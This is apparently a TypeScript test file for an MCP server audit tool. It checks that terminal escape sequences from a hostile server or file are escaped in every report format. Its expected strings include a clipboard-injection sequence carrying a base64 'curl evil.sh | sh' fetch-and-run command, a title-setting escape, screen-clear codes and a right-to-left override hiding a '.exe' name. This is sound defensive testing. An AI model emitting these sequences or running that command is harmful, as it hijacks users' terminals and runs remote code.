/**
 * Nothing a server or a file sends may drive the terminal of whoever reads the report: a hostile
 * server (escape sequences in its name, tool names, block types, messages and stderr) and a hostile
 * file go through every format, and no control character of theirs may reach the output. Our own
 * colours are the only escape sequences allowed, and only in the coloured text report.
 */

import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { HOSTILE } from '../../fixtures/servers/escapes-strings.mjs';
import { runAudit } from '../../src/audit/run.js';
import { progressLine } from '../../src/cli/commands/audit.js';
import { REPORT_FORMATS, type Report, renderReport } from '../../src/report/index.js';
import { runCli } from '../support/cli.js';

const FIXTURE = join(import.meta.dirname, '../../fixtures/servers/escapes.mjs');

/** C0 controls but tab and newline, DEL, C1, and the characters that reorder or hide text. */
const CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/** Our colours: SGR sequences only. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: our own colour sequences.
const OUR_COLOURS = /\u001b\[\d+(;\d+)*m/g;

function expectNoControl(output: string, what: string): void {
  const match = CONTROL.exec(output.replace(OUR_COLOURS, ''));
  const at = match
    ? output.replace(OUR_COLOURS, '').slice(Math.max(0, match.index - 40), match.index + 10)
    : '';
  expect(
    match,
    `${what}: control character U+${match?.[0].charCodeAt(0).toString(16)} near ${JSON.stringify(at)}`,
  ).toBeNull();
}

describe('a hostile server through every report format', { timeout: 120_000 }, () => {
  let report: Report;
  beforeAll(async () => {
    report = await runAudit({
      target: { kind: 'stdio', command: process.execPath, args: [FIXTURE] },
      versions: ['2025-06-18'],
    });
  }, 120_000);

  it('is audited: its names, block types, messages and stderr all reach the report', () => {
    const json = JSON.stringify(report);
    // The raw values are in the report data: the point is how each format shows them.
    for (const value of [HOSTILE.title, HOSTILE.clipboard, HOSTILE.c1, HOSTILE.overwrite])
      expect(json).toContain(JSON.stringify(value).slice(1, -1));
    expect(report.findings.map((f) => f.rule)).toEqual(
      expect.arrayContaining(['block-type-unknown', 'audit-call-error', 'audit-server-exited']),
    );
  });

  it.each(REPORT_FORMATS)('%s shows none of its control characters', (format) => {
    for (const color of format === 'text' ? [false, true] : [false]) {
      const output = renderReport(report, format, { color });
      expectNoControl(output, `${format}${color ? ' (colour)' : ''}`);
    }
  });

  it('shows them escaped in the text report, where a person can see what the server tried', () => {
    const text = renderReport(report, 'text', { color: false });
    expect(text).toContain('evil\\x1b]0;pwned by the server\\x07');
    expect(text).toContain('read\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07_notes');
    // A carriage return ends the line there: what it would have written over the finding is not shown.
    expect(text).toContain('unknown content block type "object\\x9b31m (1 more line)');
    expect(text).not.toContain('all tests passed');
    // The stderr of the server that crashed, line by line.
    expect(text).toMatch(/ {2}\| boom\\x1b\[2J\\x1b\[H\\x1b\]52;c;/);
  });

  it('keeps the progress line to our own cursor movement', () => {
    const written: string[] = [];
    const line = progressLine({ isTTY: true, columns: 200, write: (t) => written.push(t) });
    line.update(`2025-06-18: calling read${HOSTILE.clipboard}_notes#1${HOSTILE.overwrite}`);
    line.clear();
    const [update, clear] = written;
    expect(update?.startsWith('\r\u001b[K')).toBe(true);
    expectNoControl(update?.slice('\r\u001b[K'.length) ?? '', 'progress line');
    expect(clear).toBe('\r\u001b[K');
  });
});

describe('a hostile file through check, in every format', { timeout: 120_000 }, () => {
  const dir = mkdtempSync(join(tmpdir(), 'mcp-shape-escapes-'));
  const session = join(dir, 'session.jsonl');
  const tools = join(dir, 'tools.json');
  const evilTool = `get${HOSTILE.title}`;
  writeFileSync(
    session,
    [
      { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: evilTool, arguments: {} } },
      {
        jsonrpc: '2.0',
        id: 1,
        [`x${HOSTILE.clear}`]: 1,
        result: {
          content: [
            { type: `blob${HOSTILE.clipboard}`, data: 'aGk=' },
            { type: 'image', data: 'aGk=', mimeType: `image/${HOSTILE.c1}png` },
          ],
          structuredContent: [HOSTILE.overwrite],
        },
      },
    ]
      .map((m) => JSON.stringify(m))
      .join('\n'),
  );
  writeFileSync(
    tools,
    JSON.stringify({
      tools: [
        { name: `a${HOSTILE.misc}`, inputSchema: { type: 'object' } },
        { name: `b${HOSTILE.clear}`, inputSchema: { type: 'object' } },
      ],
    }),
  );

  it.each(REPORT_FORMATS)('check --format %s shows none of its control characters', async (format) => {
    const run = await runCli(['check', session, '--format', format, '--protocol', '2025-06-18']);
    expect(run.code).toBe(1);
    expectNoControl(run.stdout, `check --format ${format}`);
    expectNoControl(run.stderr, `check --format ${format} (stderr)`);
  });

  it('escapes tool names from a --tools file in its one-line errors', async () => {
    const run = await runCli(['check', session, '--tools', tools, '--tool', 'nope']);
    expect(run.code).toBe(2);
    expect(run.stderr.trim().split('\n')).toHaveLength(1);
    expect(run.stderr).toContain('a\\x07\\x7f\\u202egnp.exe');
    expectNoControl(run.stderr, 'check --tools error');
  });
});
